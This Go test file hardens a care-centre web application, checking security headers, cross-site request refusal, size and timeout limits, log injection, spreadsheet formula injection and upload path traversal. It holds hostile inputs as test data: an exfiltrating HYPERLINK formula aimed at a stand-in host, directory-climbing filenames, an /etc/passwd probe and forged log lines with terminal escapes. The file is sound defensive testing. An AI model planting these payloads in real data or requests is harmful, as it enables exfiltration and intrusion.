package main

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"maps"
	"net"
	"net/http"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"maiam/handlers/web"
	"maiam/handlers/webtest"
)

// The tests in this file hold the edges of the program: what each answer carries, what it refuses by
// size, by time and by origin, and what never gets into files, sheets and logs.

// carried are the heads of every answer.
var carried = map[string]string{
	"X-Content-Type-Options":       "nosniff",
	"X-Frame-Options":              "DENY",
	"Referrer-Policy":              "same-origin",
	"Cross-Origin-Opener-Policy":   "same-origin",
	"Cross-Origin-Resource-Policy": "same-origin",
	"Permissions-Policy":           "geolocation=()",
	"Content-Security-Policy":      "frame-ancestors 'none'",
}

// guarded tells what an answer lacks of them.
func guarded(a *webtest.Answer, asset bool) (wrong string) {
	for name, value := range carried {
		if !strings.Contains(a.Header.Get(name), value) {
			return fmt.Sprintf("%s is %q", name, a.Header.Get(name))
		}
	}
	policy := a.Header.Get("Content-Security-Policy")
	for _, loose := range []string{"unsafe-inline", "unsafe-eval", "unsafe-hashes", "http:", "https:", "*"} {
		if strings.Contains(policy, loose) {
			return "the policy allows " + loose
		}
	}
	for _, rule := range []string{"default-src 'none'", "script-src 'self'", "style-src 'self'", "base-uri 'none'", "form-action 'self'"} {
		if !strings.Contains(policy, rule) {
			return "the policy lacks " + rule
		}
	}
	if !asset && a.Header.Get("Cache-Control") != "no-store" && a.Header.Get("Cache-Control") != "no-cache" {
		return "it may be kept: " + a.Header.Get("Cache-Control")
	}
	return ""
}

// inline finds what the policy would have to stop.
func inline(page *webtest.Page) (wrong []string) {
	page.Find("*").Each(func(_ int, s *goquery.Selection) {
		switch goquery.NodeName(s) {
		case "script":
			kind := s.AttrOr("type", "")
			if _, from := s.Attr("src"); !from && kind != "application/json" && strings.TrimSpace(s.Text()) != "" {
				wrong = append(wrong, "script")
			}
		case "style", "base", "object", "embed", "iframe":
			wrong = append(wrong, goquery.NodeName(s))
		}
		for _, a := range s.Nodes[0].Attr {
			if a.Key == "style" || strings.HasPrefix(a.Key, "on") || strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:") {
				wrong = append(wrong, goquery.NodeName(s)+" "+a.Key)
			}
		}
	})
	return wrong
}

// TestEveryAnswerIsGuarded asks every door, rightly and wrongly, signed in and not, and holds the heads of
// each answer and what its page holds against the law: no script or style inside, no frame, nothing kept.
func TestEveryAnswerIsGuarded(t *testing.T) {
	h := openSample(t)
	here, there := placed(t, h, "CS1"), placed(t, h, "CSB")
	g := standAt(t, h)
	roles := map[string]web.Visitor{"nobody": {}}
	for _, role := range rolesNamed("director", "kitchen") {
		roles[role.Code] = web.Visitor{Actor: someone(t, h, role, wholeCentre, here, there), Lang: "vi"}
	}
	statuses := map[int]int{}
	look := func(what string, a *webtest.Answer, asset bool) {
		t.Helper()
		statuses[a.Status]++
		if wrong := guarded(a, asset); wrong != "" {
			t.Errorf("%s (%d): %s", what, a.Status, wrong)
		}
		if strings.HasPrefix(a.Header.Get("Content-Type"), "text/html") {
			if wrong := inline(a.Page()); len(wrong) > 0 {
				t.Errorf("%s (%d) holds %v", what, a.Status, wrong)
			}
		}
	}
	for who, visitor := range roles {
		g.at.visitor = visitor
		for _, door := range h.desk.Doors {
			what, asset := door.Method+" "+door.Path+" by "+who, strings.HasPrefix(door.Path, "/assets/")
			f := &filler{ids: here.ids, now: h.db.Now(), day: today(h)}
			if door.Kind == web.LiveDoor {
				continue // its head is written with the first word, as every other
			}
			if door.Path == "/me/theme" || door.Path == "/sign-out" || door.Probe == nil && door.Method != http.MethodGet {
				continue
			}
			a := f.knock(t, g.visitor, door)
			look(what, a, asset)
			if who == "director" && door.Method != http.MethodGet {
				look(what+" with nothing", g.visitor.Post(pathOf(door.Path, here.ids), nil), asset)
			}
		}
		for _, path := range []string{"/nowhere", "/api/v1/nowhere", "/wards/x", "/wards/999999999", "/assets/nothing.js", "/residents/1%00", "/%2e%2e/etc/passwd"} {
			look(path, g.visitor.Get(path), strings.HasPrefix(path, "/assets/"))
		}
		for _, method := range []string{"PUT", "DELETE", "OPTIONS", "TRACE", "HEAD", "PROPFIND"} {
			look(method, g.visitor.Do(method, "/wards", nil), false)
		}
	}
	for _, status := range []int{200, 303, 401, 403, 404, 422} {
		if statuses[status] == 0 {
			t.Errorf("no answer was a %d: %v", status, statuses)
		}
	}
	t.Logf("%v", statuses)
}

// TestNothingIsChangedFromElsewhere sends every form and operation as a page of another site would: it is
// refused before anybody looks at it, whoever is signed in.
func TestNothingIsChangedFromElsewhere(t *testing.T) {
	h := openSample(t)
	here, there := placed(t, h, "CS1"), placed(t, h, "CSB")
	g := standAt(t, h)
	g.at.visitor = web.Visitor{Actor: someone(t, h, rolesNamed("director")[0], wholeCentre, here, there), Lang: "vi"}
	tried := 0
	for _, door := range h.desk.Doors {
		if door.Method == http.MethodGet {
			continue
		}
		path := pathOf(door.Path, here.ids)
		for _, head := range [][]string{{"Sec-Fetch-Site: cross-site"}, {"Sec-Fetch-Site: same-site"}, {"Origin: https://elsewhere.example"}, {"Origin: null"}} {
			tried++
			a := g.visitor.Do(door.Method, path, strings.NewReader("x=1"), append([]string{"Content-Type: application/x-www-form-urlencoded"}, head...)...)
			if a.Status != http.StatusForbidden || g.last.Reached {
				t.Errorf("%s %s with %s answers %d", door.Method, door.Path, head, a.Status)
			}
			if a.Header.Get("Access-Control-Allow-Origin") != "" {
				t.Errorf("%s lets others read it", door.Path)
			}
		}
	}
	if tried < 500 {
		t.Errorf("only %d were tried", tried)
	}
}

// endless is a body that never ends, and tells how much of it was taken.
type endless struct {
	head  string
	taken int
}

func (e *endless) Read(b []byte) (int, error) {
	n := 0
	if e.taken < len(e.head) {
		n = copy(b, e.head[e.taken:])
	} else {
		for i := range b {
			b[i] = 'a'
		}
		n = len(b)
	}
	e.taken += n
	if e.taken > 200<<20 {
		return n, io.ErrUnexpectedEOF // the test itself must end
	}
	return n, nil
}

// TestEveryDoorTakesNoMoreThanItsLimit sends bodies without end to every door: no door takes more than what
// its limit says, and an upload no more than forty megabytes.
func TestEveryDoorTakesNoMoreThanItsLimit(t *testing.T) {
	h := openSample(t)
	here, there := placed(t, h, "CS1"), placed(t, h, "CSB")
	g := standAt(t, h)
	g.at.visitor = web.Visitor{Actor: someone(t, h, rolesNamed("director")[0], wholeCentre, here, there), Lang: "vi"}
	wide := 0
	for _, door := range h.desk.Doors {
		if door.Method == http.MethodGet || door.Probe == nil || own.MatchString(door.Path) {
			continue
		}
		kinds := map[string]string{"application/x-www-form-urlencoded": "text=", "multipart/form-data; boundary=b": "--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n"}
		if door.Kind == web.APIDoor {
			kinds["application/json"] = `{"text":"`
		}
		files := uploads(door.In)
		if len(files) > 0 {
			kinds = map[string]string{"multipart/form-data; boundary=b": "--b\r\nContent-Disposition: form-data; name=\"" + files[0] + "\"; filename=\"a.jpg\"\r\n\r\n"}
		}
		for kind, head := range kinds {
			body := &endless{head: head}
			a := g.visitor.Do(door.Method, pathOf(door.Path, here.ids), body, "Content-Type: "+kind, "Sec-Fetch-Site: same-origin")
			most := 2 << 20
			if body.taken > most {
				wide++
				most = 42 << 20
			}
			if body.taken > most || body.taken > 2<<20 && len(files) == 0 && !strings.Contains(door.Path, "offline") && !strings.Contains(door.Path, "roster") {
				t.Errorf("%s %s takes %d bytes of %s", door.Method, door.Path, body.taken, kind)
			}
			if g.last.Reached || a.Status != http.StatusUnprocessableEntity && a.Status != http.StatusNotFound && a.Status != http.StatusForbidden {
				t.Errorf("%s %s answers %d to a body without end", door.Method, door.Path, a.Status)
			}
		}
	}
	t.Logf("%d doors take more than two megabytes", wide)
}

// TestSlowClientsAreSentAway speaks a letter at a time to the server as the house makes it, with its times
// made short: neither a head nor a body may take for ever, who does not read what they asked for is left, and
// a line without end is cut.
func TestSlowClientsAreSentAway(t *testing.T) {
	left := make(chan error, 1)
	s := newServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/long" {
			part, err := make([]byte, 1<<20), error(nil)
			for n := 0; n < 1<<10 && err == nil; n++ { // more than any buffer on the way holds
				_, err = w.Write(part)
			}
			left <- err
			return
		}
		if _, err := io.Copy(io.Discard, r.Body); err != nil {
			http.Error(w, "too slow", http.StatusRequestTimeout)
		}
	}))
	for name, d := range map[string]time.Duration{"head": s.ReadHeaderTimeout, "body": s.ReadTimeout, "answer": s.WriteTimeout, "idle": s.IdleTimeout} {
		if d <= 0 || d > 2*time.Minute {
			t.Errorf("%s may take %v", name, d)
		}
	}
	if s.MaxHeaderBytes <= 0 || s.MaxHeaderBytes > 64<<10 {
		t.Errorf("a head may have %d bytes", s.MaxHeaderBytes)
	}
	s.ReadHeaderTimeout, s.ReadTimeout, s.WriteTimeout = 300*time.Millisecond, 600*time.Millisecond, 2*time.Second
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = s.Serve(listener) }()
	t.Cleanup(func() { _ = s.Close() })
	for what, words := range map[string]string{
		"head": "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ",
		"body": "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n",
	} {
		conn, err := net.Dial("tcp", listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(conn, words); err != nil {
			t.Fatal(err)
		}
		ended := make(chan error, 1)
		go func() {
			_, err := io.Copy(io.Discard, conn) // until the house hangs up
			ended <- err
		}()
		drip := time.NewTicker(20 * time.Millisecond)
		over := time.After(patience)
		for gone := false; !gone; {
			select {
			case <-drip.C:
				_, _ = io.WriteString(conn, "a")
			case <-ended:
				gone = true
			case <-over:
				t.Fatalf("a slow %s is served for ever", what)
			}
		}
		drip.Stop()
		_ = conn.Close()
	}
	deaf, err := net.Dial("tcp", listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer deaf.Close()
	if _, err := io.WriteString(deaf, "GET /long HTTP/1.1\r\nHost: x\r\n\r\n"); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-left:
		if err == nil {
			t.Error("a gigabyte was written to somebody who reads nothing")
		}
	case <-time.After(patience):
		t.Fatal("who reads nothing is served for ever")
	}
	conn, err := net.Dial("tcp", listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	go func() {
		_, _ = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: x\r\nX: "+strings.Repeat("a", 1<<20)+"\r\n\r\n")
	}()
	if answer, err := io.ReadAll(io.LimitReader(conn, 64)); err != nil && len(answer) == 0 {
		t.Logf("a long line is cut: %v", err)
	} else if !strings.Contains(string(answer), "431") {
		t.Errorf("a head of a megabyte is answered %q", answer)
	}
}

// TestNothingTypedMakesALineOfTheLog puts ends of lines and commands for the screen into everything that
// comes over the wire, in both shapes of the log: each event stays one line, and nothing in it acts.
func TestNothingTypedMakesALineOfTheLog(t *testing.T) {
	h := openSample(t)
	here := placed(t, h, "CS1")
	const forged = "x\r\ntime=2026-01-01T00:00:00Z level=ERROR msg=\"forged\"\n{\"msg\":\"forged\"}\u2028\u0085\x1b[2J\x1b]0;forged\x07"
	for shape, handler := range map[string]func(io.Writer) slog.Handler{
		"text": func(w io.Writer) slog.Handler {
			return slog.NewTextHandler(w, &slog.HandlerOptions{Level: slog.LevelDebug})
		},
		"json": func(w io.Writer) slog.Handler {
			return slog.NewJSONHandler(w, &slog.HandlerOptions{Level: slog.LevelDebug})
		},
	} {
		var log logged
		before := slog.Default()
		slog.SetDefault(slog.New(handler(&log)))
		func() {
			defer slog.SetDefault(before)
			v := webtest.Visit(t, h.desk.Handler())
			v.Header["User-Agent"], v.Header["X-Request-Id"], v.Header["Referer"], v.Header["X-Forwarded-For"], v.Header["Accept-Language"] = []string{forged}, []string{forged}, []string{forged}, []string{forged}, []string{forged}
			v.Post("/sign-in", url.Values{"username": {forged}, "password": {forged}})
			v.JSON("POST", "/api/v1/session", map[string]string{"username": forged, "password": forged})
			v.Header.Set("Authorization", "Bearer "+forged)
			v.JSON("POST", "/api/v1/offline/entries", map[string]any{"entries": []any{map[string]string{"id": forged, "key": forged}}})
			for _, door := range h.desk.Doors {
				if door.Kind == web.LiveDoor {
					continue
				}
				path := param.ReplaceAllString(door.Path, url.PathEscape(forged))
				v.Do(door.Method, path+"?"+url.Values{"q": {forged}, "day": {forged}, "lang": {forged}}.Encode(), strings.NewReader(url.Values{"name": {forged}, "_key": {forged}}.Encode()),
					"Content-Type: application/x-www-form-urlencoded", "Sec-Fetch-Site: same-origin")
			}
			_ = here
			slog.Warn("said by the house itself", "error", fmt.Errorf("of a driver: %s", forged), "name", forged)
		}()
		lines := strings.Split(strings.TrimSuffix(log.text(), "\n"), "\n")
		for _, line := range lines {
			if !strings.HasPrefix(line, "time=") && !strings.HasPrefix(line, `{"time":`) || strings.ContainsAny(line, "\x1b\x07\r\u2028") || strings.HasPrefix(line, "time=2026-01-01") {
				t.Errorf("%s: a line of the log is %.200q", shape, line)
			}
		}
		if len(lines) < 100 {
			t.Errorf("%s: only %d lines were written", shape, len(lines))
		}
	}
}

// formula is a cell that a spreadsheet program would work out.
var formula = regexp.MustCompile(`<f[ >/]|ddeLink|<externalLink|hyperlinks`)

// TestNoSpreadsheetHoldsAFormula names people, wards, rooms and staff like formulas and saves every list:
// each such name is there as text, and no cell works anything out.
func TestNoSpreadsheetHoldsAFormula(t *testing.T) {
	h := ownSample(t)
	const evil = `=HYPERLINK("http://elsewhere.example?"&A1,"x")`
	for _, statement := range []string{"UPDATE residents_people SET name = ?", "UPDATE wards_wards SET name = ?", "UPDATE wards_zones SET name = ?", "UPDATE staff_members SET name = ?", "UPDATE care_marks SET note = ?", "UPDATE presence_absences SET place = ?"} {
		if _, err := h.db.Raw().Exec(statement, evil); err != nil && !strings.Contains(strings.ToLower(err.Error()), "unique") && !strings.Contains(err.Error(), "Duplicate") {
			t.Fatal(err)
		}
	}
	here, there := placed(t, h, "CS1"), placed(t, h, "CSB")
	g := standAt(t, h)
	saved, seen := 0, 0
	for _, door := range h.desk.Doors {
		if !strings.HasSuffix(door.Path, ".xlsx") {
			continue
		}
		for _, role := range rolesNamed("director", "admin") {
			g.at.visitor = web.Visitor{Actor: someone(t, h, role, wholeCentre, here, there), Lang: "vi"}
			a := g.visitor.Get(pathOf(door.Path, here.ids))
			if a.Status != http.StatusOK {
				continue
			}
			saved++
			parts, err := zip.NewReader(strings.NewReader(a.Body), int64(len(a.Body)))
			if err != nil {
				t.Fatalf("%s: %v", door.Path, err)
			}
			for _, part := range parts.File {
				file, err := part.Open()
				if err != nil {
					t.Fatal(err)
				}
				text, err := io.ReadAll(file)
				if err != nil {
					t.Fatal(err)
				}
				if strings.HasPrefix(part.Name, "xl/worksheets/") {
					if at := formula.FindIndex(text); at != nil {
						t.Errorf("%s holds %.200s", door.Path, text[at[0]:])
					}
				}
				if bytes.Contains(text, []byte("elsewhere.example")) {
					seen++
				}
				if strings.HasSuffix(part.Name, ".rels") && bytes.Contains(text, []byte("External")) {
					t.Errorf("%s leads out of itself", door.Path)
				}
			}
			break
		}
	}
	t.Logf("%d lists saved, in %d stands the name", saved, seen)
	if saved < 20 || seen < 5 {
		t.Errorf("%d lists were saved, in %d stands the name", saved, seen)
	}
}

// TestNoNameLeadsOutOfTheFolder sends files whose names climb out of their folder to every door that takes
// files: nothing is written but below the folder of the attachments, under names of the house's own.
func TestNoNameLeadsOutOfTheFolder(t *testing.T) {
	h := ownSample(t)
	here, there := placed(t, h, "CS1"), placed(t, h, "CSB")
	g := standAt(t, h)
	g.at.visitor = web.Visitor{Actor: someone(t, h, rolesNamed("director")[0], wholeCentre, here, there), Lang: "vi"}
	around := filepath.Dir(h.cfg.Data)
	list := func() map[string]bool {
		out := map[string]bool{}
		if err := filepath.WalkDir(around, func(path string, e fs.DirEntry, err error) error {
			if err == nil && !e.IsDir() {
				out[path] = true
			}
			return err
		}); err != nil {
			t.Fatal(err)
		}
		return out
	}
	before, sum := list(), regexp.MustCompile(`^[0-9a-f/]+$`)
	doors := 0
	for _, door := range h.desk.Doors {
		for _, field := range uploads(door.In) {
			doors++
			f := &filler{ids: here.ids, now: h.db.Now(), day: today(h)}
			form := url.Values{}
			flat(form, "", f.filled(door))
			for _, name := range []string{"../../../evil.jpg", `..\..\evil.jpg`, "/etc/evil.jpg", "a/../../evil.jpg", "evil\x00.jpg", "%2e%2e%2fevil.jpg", ".", "..", strings.Repeat("e", 5000) + ".jpg"} {
				if a := g.visitor.Upload(pathOf(door.Path, here.ids), form, field, name, smallPicture); a.Status >= 500 && !g.last.Done {
					t.Errorf("%s with %.40q answers %d", door.Path, name, a.Status)
				}
			}
		}
	}
	for path := range maps.Keys(list()) {
		if before[path] || strings.HasPrefix(path, filepath.Join(h.cfg.Data, "maiam.db")) {
			continue
		}
		below, err := filepath.Rel(filepath.Join(h.cfg.Data, "files"), path)
		if err != nil || strings.HasPrefix(below, "..") || !sum.MatchString(below) {
			t.Errorf("%s was written", path)
		}
	}
	if doors < 5 {
		t.Errorf("only %d fields take files", doors)
	}
}
